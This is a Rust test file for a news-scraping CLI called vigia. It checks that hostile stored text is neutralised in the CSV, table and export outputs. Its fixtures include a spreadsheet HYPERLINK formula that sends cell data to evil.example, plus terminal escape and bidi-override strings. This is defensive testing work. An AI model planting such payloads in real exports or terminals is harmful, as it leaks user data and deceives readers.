//! What pages put in the database cannot trick the outputs: CSV cells that a spreadsheet would
//! run, terminal escapes in tables, `--out` pointed at the database, huge `sql` results, old
//! schemas opened by reading commands, and a database another program keeps busy.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

mod common;

use chrono::{TimeZone, Utc};
use common::cli::{stdout_of, vigia};
use predicates::prelude::*;
use rusqlite::Connection;
use vigia::extract::{Entity, EntityType, Extraction, Statistic, Topic, Unit};
use vigia::store::{NewArticle, PageRecord, SCHEMA_VERSION, Store};

/// Page text as a hostile site could send it: formulas, terminal escapes, bidi overrides.
const FORMULA_TITLE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
const ESCAPE_BODY: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}Police seized 12 tons of cocaine\u{7f} in the port \u{202e}gnp.exe\u{85} yesterday.";

/// A database with one article whose stored text starts like formulas and holds escapes.
fn hostile_db(dir: &Path) -> PathBuf {
    let db = dir.join("hostile.db");
    let store = Store::open(&db).unwrap();
    let url = "https://news.example/hostile";
    let page = PageRecord {
        url: url.into(),
        final_url: url.into(),
        source: "wire".into(),
        status: Some(200),
        body: Some(ESCAPE_BODY.as_bytes().to_vec()),
        fetched_at: Utc.with_ymd_and_hms(2024, 3, 1, 0, 0, 0).unwrap(),
        ..PageRecord::default()
    };
    let article = NewArticle {
        canonical_url: url.into(),
        url: url.into(),
        source: "wire".into(),
        title: Some(FORMULA_TITLE.into()),
        published: Some("2024-02-29".into()),
        body: ESCAPE_BODY.into(),
        fetched_at: page.fetched_at,
        ..NewArticle::default()
    };
    let statistic = |value: f64, counted: &str, metric: &str| Statistic {
        value: Some(value),
        low: None,
        high: None,
        unit: Unit::Count,
        qualifier: None,
        counted: Some(counted.into()),
        topic: Some(Topic::DrugSeizure),
        metric: Some(metric.into()),
        year: None,
        location: None,
        source: Some("\tcmd".into()),
        sentence: ESCAPE_BODY.into(),
        start: 40,
        end: 47,
        change: None,
        location_from: None,
    };
    let extraction = Extraction {
        relevance: 0.9,
        topics: vec![Topic::DrugSeizure],
        statistics: vec![statistic(-5.0, "@SUM(1+1)", "+1-1"), statistic(-2.5, "-2+3", "\rcmd")],
        entities: vec![Entity {
            kind: EntityType::Organization,
            name: "=1+1".into(),
            role: Some("-officer".into()),
            country: None,
            start: 0,
            end: 3,
        }],
    };
    store.save_article(&page, &article, &extraction).unwrap();
    db
}

fn csv_rows(text: &str) -> Vec<csv::StringRecord> {
    csv::Reader::from_reader(text.as_bytes()).records().map(|r| r.unwrap()).collect()
}

// 1. CSV formula injection.

#[test]
fn csv_export_neutralises_formula_cells_but_not_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let db = hostile_db(dir.path());

    let articles = stdout_of(vigia().args(["export", "articles", "--format", "csv", "--db"]).arg(&db));
    let rows = csv_rows(&articles);
    assert_eq!(&rows[0][1], format!("'{FORMULA_TITLE}"));

    let stats = stdout_of(vigia().args(["export", "statistics", "--format", "csv", "--db"]).arg(&db));
    let rows = csv_rows(&stats);
    assert_eq!(rows.len(), 2);
    // value, counted, metric, attributed_to
    assert_eq!(&rows[0][3], "-5.0", "a negative number stays a number");
    assert_eq!(&rows[0][8], "'@SUM(1+1)");
    assert_eq!(&rows[0][10], "'+1-1");
    assert_eq!(&rows[0][13], "'\tcmd");
    assert_eq!(&rows[1][3], "-2.5");
    assert_eq!(&rows[1][8], "'-2+3");
    assert_eq!(&rows[1][10], "'\rcmd");
    assert_eq!(&rows[0][15], "40");

    let entities = stdout_of(vigia().args(["export", "entities", "--format", "csv", "--db"]).arg(&db));
    let rows = csv_rows(&entities);
    assert_eq!(&rows[0][4], "'=1+1");
    assert_eq!(&rows[0][5], "'-officer");

    // JSON Lines keeps the text exactly as stored.
    let jsonl = stdout_of(vigia().args(["export", "statistics", "--format", "jsonl", "--db"]).arg(&db));
    let first: serde_json::Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
    assert_eq!(first["counted"], "@SUM(1+1)");
    assert_eq!(first["value"], -5.0);
}

#[test]
fn sql_csv_neutralises_formula_text_but_not_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let db = hostile_db(dir.path());
    let out = stdout_of(
        vigia()
            .args([
                "sql",
                "--format",
                "csv",
                "SELECT title, -5 AS n, -2.5 AS r, '-3' AS t, NULL AS z, '' AS e FROM articles",
            ])
            .arg("--db")
            .arg(&db),
    );
    let mut reader = csv::Reader::from_reader(out.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        ["title", "n", "r", "t", "z", "e"]
    );
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[0], format!("'{FORMULA_TITLE}"));
    assert_eq!(&row[1], "-5");
    assert_eq!(&row[2], "-2.5");
    assert_eq!(&row[3], "'-3", "text that looks like a number is still text");
    assert_eq!(&row[4], "");
    assert_eq!(&row[5], "");

    // JSON keeps the stored text.
    let json = stdout_of(
        vigia()
            .args(["sql", "--format", "json", "SELECT title FROM articles", "--db"])
            .arg(&db),
    );
    let row: serde_json::Value = serde_json::from_str(json.trim()).unwrap();
    assert_eq!(row["title"], FORMULA_TITLE);
}

// 2. `export --out` and the database.

#[test]
fn export_out_refuses_the_database_and_its_companions() {
    let dir = tempfile::tempdir().unwrap();
    let db = hostile_db(dir.path());
    let before = std::fs::read(&db).unwrap();
    let with_suffix = |suffix: &str| {
        let mut name = db.clone().into_os_string();
        name.push(suffix);
        PathBuf::from(name)
    };
    let mut targets = vec![
        db.clone(),
        with_suffix("-wal"),
        with_suffix("-shm"),
        with_suffix("-journal"),
        with_suffix(".lock"),
        dir.path().join(".").join("hostile.db"),
    ];
    // The same file under another name.
    let sub = dir.path().join("sub");
    std::fs::create_dir(&sub).unwrap();
    targets.push(sub.join("..").join("hostile.db"));
    std::fs::hard_link(&db, dir.path().join("linked.db")).unwrap();
    targets.push(dir.path().join("linked.db"));
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(&db, dir.path().join("alias.csv")).unwrap();
        targets.push(dir.path().join("alias.csv"));
        std::os::unix::fs::symlink(dir.path(), dir.path().join("same-dir")).unwrap();
        targets.push(dir.path().join("same-dir").join("hostile.db-wal"));
    }
    for target in &targets {
        for format in ["csv", "jsonl", "parquet"] {
            vigia()
                .args(["export", "articles", "--format", format, "--out"])
                .arg(target)
                .arg("--db")
                .arg(&db)
                .assert()
                .code(2)
                .stderr(predicate::str::contains("hostile.db").and(predicate::str::contains("database")));
        }
    }
    assert_eq!(std::fs::read(&db).unwrap(), before, "the database is untouched");
    for suffix in ["-journal", ".lock"] {
        assert!(!with_suffix(suffix).exists(), "{suffix} was created");
    }
    // The database still reads.
    let out = stdout_of(
        vigia()
            .args(["sql", "--format", "csv", "SELECT count(*) FROM articles", "--db"])
            .arg(&db),
    );
    assert_eq!(out.lines().nth(1), Some("1"));
}

#[test]
fn a_failed_export_keeps_the_previous_file_and_leaves_no_partial_file() {
    let dir = tempfile::tempdir().unwrap();
    let db = hostile_db(dir.path());
    // A row the export cannot read, after one it can: the export fails part-way.
    let conn = Connection::open(&db).unwrap();
    conn.execute("UPDATE statistics SET \"start\" = 'not a number' WHERE value = -2.5", [])
        .unwrap();
    drop(conn);
    let out_dir = dir.path().join("out");
    std::fs::create_dir(&out_dir).unwrap();
    let out = out_dir.join("figures.csv");
    std::fs::write(&out, "previous export\n").unwrap();
    for format in ["csv", "jsonl", "parquet"] {
        vigia()
            .args(["export", "statistics", "--format", format, "--out"])
            .arg(&out)
            .arg("--db")
            .arg(&db)
            .assert()
            .code(1);
        assert_eq!(std::fs::read_to_string(&out).unwrap(), "previous export\n", "{format}");
        let names: Vec<_> = std::fs::read_dir(&out_dir).unwrap().map(|e| e.unwrap().file_name()).collect();
        assert_eq!(names, ["figures.csv"], "{format}");
    }
    // A successful export replaces it.
    vigia()
        .args(["export", "entities", "--format", "csv", "--out"])
        .arg(&out)
        .arg("--db")
        .arg(&db)
        .assert()
        .success();
    assert!(std::fs::read_to_string(&out).unwrap().starts_with("article_url,"));
    let names: Vec<_> = std::fs::read_dir(&out_dir).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(names, ["figures.csv"]);
}

// 3. `sql` output.

/// Characters that must never reach a terminal from a table cell.
fn has_terminal_controls(text: &str) -> bool {
    text.chars()
        .any(|c| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c))
}

#[test]
fn sql_table_shows_control_characters_as_visible_escapes() {
    let dir = tempfile::tempdir().unwrap();
    let db = hostile_db(dir.path());
    let table = stdout_of(
        vigia()
            .args([
                "sql",
                "SELECT body, char(27) || '[31mred' AS esc, char(8238) || 'gnp.exe' AS rlo,
                        char(8294) || 'x' || char(8297) AS isolate, char(1) AS soh, char(133) AS nel,
                        char(127) AS del, 'a' || char(9) || 'b' || char(10) || 'c' AS spaced
                 FROM articles",
            ])
            .arg("--db")
            .arg(&db),
    );
    assert!(!has_terminal_controls(&table), "{table:?}");
    assert!(table.contains("\\u{1b}[2J"), "{table}");
    assert!(table.contains("\\u{1b}[31mred"), "{table}");
    assert!(table.contains("\\u{202e}gnp.exe"), "{table}");
    assert!(
        table.contains("\\u{1}") && table.contains("\\u{85}") && table.contains("\\u{7f}"),
        "{table}"
    );
    assert!(table.contains("\\u{2066}x\\u{2069}"), "{table}");
    // CSV and JSON keep the data exact.
    let csv = stdout_of(
        vigia()
            .args(["sql", "--format", "csv", "SELECT body FROM articles", "--db"])
            .arg(&db),
    );
    assert_eq!(&csv_rows(&csv)[0][0], ESCAPE_BODY);
    let json = stdout_of(
        vigia()
            .args(["sql", "--format", "json", "SELECT body FROM articles", "--db"])
            .arg(&db),
    );
    let row: serde_json::Value = serde_json::from_str(json.trim()).unwrap();
    assert_eq!(row["body"], ESCAPE_BODY);
}

#[test]
fn status_table_shows_control_characters_as_visible_escapes() {
    let dir = tempfile::tempdir().unwrap();
    let db = hostile_db(dir.path());
    let conn = Connection::open(&db).unwrap();
    conn.execute(
        "INSERT INTO sources (name, kind, url, last_error, created_at, updated_at)
         VALUES ('wire', 'rss', 'https://news.example/feed', ?1, '', '')",
        [format!("server said {ESCAPE_BODY}")],
    )
    .unwrap();
    conn.execute(
        "INSERT INTO runs (started_at, finished_at, errors) VALUES ('2024-03-01T00:00:00Z', NULL, ?1)",
        [serde_json::json!([ESCAPE_BODY]).to_string()],
    )
    .unwrap();
    drop(conn);
    let status = stdout_of(vigia().arg("status").arg("--db").arg(&db));
    assert!(status.contains("server said"), "{status}");
    assert!(!has_terminal_controls(&status), "{status:?}");
}

/// A query generating `n` rows, each with a number and a 100-character text.
fn generated(n: u64) -> String {
    format!(
        "WITH RECURSIVE g(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM g WHERE i < {n})
         SELECT i, printf('%0100d', i) AS padded FROM g"
    )
}

#[test]
fn sql_streams_a_large_result_in_every_format() {
    let dir = tempfile::tempdir().unwrap();
    let db = hostile_db(dir.path());
    let n = 300_000;
    let count_lines = |format: &str| -> usize {
        let out = vigia()
            .args(["sql", "-q", "--format", format, &generated(n)])
            .arg("--db")
            .arg(&db)
            .assert()
            .success()
            .get_output()
            .stdout
            .clone();
        let last = out
            .split(|b| *b == b'\n')
            .rev()
            .nth(1)
            .map(|l| String::from_utf8_lossy(l).into_owned());
        // A table cuts long cells; the row number leads every format's last line.
        assert!(
            last.is_some_and(|l| l.trim_start_matches("{\"i\":").starts_with(&n.to_string())),
            "{format}: the last row is there"
        );
        out.iter().filter(|b| **b == b'\n').count()
    };
    assert_eq!(count_lines("json"), n as usize);
    assert_eq!(count_lines("csv"), n as usize + 1);
    assert_eq!(count_lines("table"), n as usize + 2);
}

// 4. Reading commands and an older schema.

/// A database as the first schema version left it, with one article.
fn old_schema_db(dir: &Path) -> PathBuf {
    let db = dir.join("old.db");
    let conn = Connection::open(&db).unwrap();
    conn.pragma_update(None, "journal_mode", "WAL").unwrap();
    conn.execute_batch(include_str!("../migrations/0001_init.sql")).unwrap();
    conn.pragma_update(None, "user_version", 1).unwrap();
    conn.execute_batch(include_str!("fixtures/store/bare_article.sql")).unwrap();
    db
}

fn schema_version(db: &Path) -> i64 {
    let conn = Connection::open(db).unwrap();
    conn.pragma_query_value(None, "user_version", |r| r.get(0)).unwrap()
}

#[test]
fn a_reading_command_never_migrates_while_a_run_holds_the_lock() {
    let dir = tempfile::tempdir().unwrap();
    let db = old_schema_db(dir.path());
    let held = vigia::lock::RunLock::acquire(&db).unwrap();
    let started = Instant::now();
    vigia()
        .args(["sql", "SELECT count(*) FROM articles", "--db"])
        .arg(&db)
        .assert()
        .code(1)
        .stderr(
            predicate::str::contains("old.db")
                .and(predicate::str::contains(format!(
                    "schema version 1, this vigia needs {SCHEMA_VERSION}"
                )))
                .and(predicate::str::contains("vigia run")),
        );
    assert!(started.elapsed() >= Duration::from_secs(1), "it waited for the run to finish");
    assert_eq!(schema_version(&db), 1, "nothing was migrated under a running pass");
    drop(held);

    // Once no run holds the lock, the reading command upgrades the file under it, then reads.
    for command in [
        vec![
            "sql",
            "--format",
            "csv",
            "SELECT count(*) FROM articles_fts WHERE articles_fts MATCH 'extortion'",
        ],
        vec!["status"],
        vec!["export", "articles", "--format", "jsonl"],
        vec!["trend", "statistics"],
    ] {
        let out = stdout_of(vigia().args(&command).arg("--db").arg(&db));
        if command[0] == "sql" {
            assert_eq!(out.lines().nth(1), Some("1"), "{out}");
        }
        assert_eq!(schema_version(&db), i64::from(SCHEMA_VERSION));
    }
}

// 5. A database another program keeps busy.

fn config_for(dir: &Path, db: &Path) -> PathBuf {
    let pages = Path::new(env!("CARGO_MANIFEST_DIR")).join("demo/pages");
    let cfg = dir.join("vigia.toml");
    std::fs::write(
        &cfg,
        format!(
            "database = {db:?}\n\n[[sources]]\nname = \"saved\"\nkind = \"files\"\nurl = {pages:?}\nschedule = \"* * * * *\"\n",
            db = db.display().to_string(),
            pages = pages.display().to_string(),
        ),
    )
    .unwrap();
    cfg
}

/// Holds the database's write lock the way `sqlite3` with an open transaction does.
fn hold_write_lock(db: &Path) -> Connection {
    let conn = Connection::open(db).unwrap();
    conn.execute_batch("BEGIN EXCLUSIVE; INSERT INTO runs (started_at) VALUES ('held');")
        .unwrap();
    conn
}

fn count(db: &Path, sql: &str) -> i64 {
    let conn = Connection::open(db).unwrap();
    conn.query_row(sql, [], |r| r.get(0)).unwrap()
}

#[test]
fn run_on_a_busy_database_fails_clearly_and_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("held.db");
    drop(Store::open(&db).unwrap());
    let cfg = config_for(dir.path(), &db);
    let holder = hold_write_lock(&db);
    vigia()
        .args(["run", "--config"])
        .arg(&cfg)
        .timeout(Duration::from_secs(60))
        .assert()
        .code(1)
        .stderr(predicate::str::contains("busy"));
    drop(holder);
    let conn = Connection::open(&db).unwrap();
    let check: String = conn.query_row("PRAGMA integrity_check", [], |r| r.get(0)).unwrap();
    assert_eq!(check, "ok");
    assert_eq!(
        count(&db, "SELECT count(*) FROM runs"),
        0,
        "the holder rolled back; vigia wrote nothing"
    );
    // Once it is free, the same run works.
    vigia().args(["run", "-q", "--config"]).arg(&cfg).assert().success();
    assert!(count(&db, "SELECT count(*) FROM articles") > 0);
}

#[cfg(unix)]
fn stop(child: &mut std::process::Child) -> std::process::ExitStatus {
    let sent = std::process::Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(sent.success());
    let waited = Instant::now();
    loop {
        if let Some(code) = child.try_wait().unwrap() {
            return code;
        }
        if waited.elapsed() > Duration::from_secs(30) {
            let _ = child.kill();
            panic!("the daemon did not stop on SIGTERM");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[cfg(unix)]
#[test]
fn daemon_outlives_a_busy_database_and_retries_on_the_next_schedule() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("held.db");
    drop(Store::open(&db).unwrap());
    let cfg = config_for(dir.path(), &db);
    let log = dir.path().join("daemon.log");
    let holder = hold_write_lock(&db);
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("vigia"))
        .args(["daemon", "--config"])
        .arg(&cfg)
        .env_remove("VIGIA_CONFIG")
        .env_remove("RUST_LOG")
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    let read_log = || std::fs::read_to_string(&log).unwrap_or_default();
    let started = Instant::now();
    while !read_log().contains("busy") {
        if let Some(code) = child.try_wait().unwrap() {
            panic!("the daemon exited ({code:?}) on a busy database:\n{}", read_log());
        }
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "no failed pass logged:\n{}",
            read_log()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    std::thread::sleep(Duration::from_millis(500));
    assert!(child.try_wait().unwrap().is_none(), "the daemon exited:\n{}", read_log());
    drop(holder);

    // The next pass (at the next minute, or after the back-off) stores the pages.
    let finished = || {
        Connection::open(&db)
            .and_then(|c| {
                c.query_row("SELECT count(*) FROM runs WHERE finished_at IS NOT NULL", [], |r| {
                    r.get::<_, i64>(0)
                })
            })
            .unwrap_or(0)
            > 0
    };
    let released = Instant::now();
    while !finished() {
        if let Some(code) = child.try_wait().unwrap() {
            panic!("the daemon exited ({code:?}):\n{}", read_log());
        }
        if released.elapsed() > Duration::from_secs(150) {
            let _ = child.kill();
            panic!("no pass after the database was free:\n{}", read_log());
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    assert!(count(&db, "SELECT count(*) FROM articles") > 0);
    let code = stop(&mut child);
    assert!(code.success(), "{code:?}:\n{}", read_log());
}

#[test]
fn daemon_stops_at_startup_on_a_file_that_is_not_a_database() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("notes.db");
    std::fs::write(&db, "not a database, just notes that happen to be long enough").unwrap();
    let cfg = config_for(dir.path(), &db);
    vigia()
        .args(["daemon", "--config"])
        .arg(&cfg)
        .timeout(Duration::from_secs(60))
        .assert()
        .code(1)
        .stderr(predicate::str::contains("notes.db"));
}
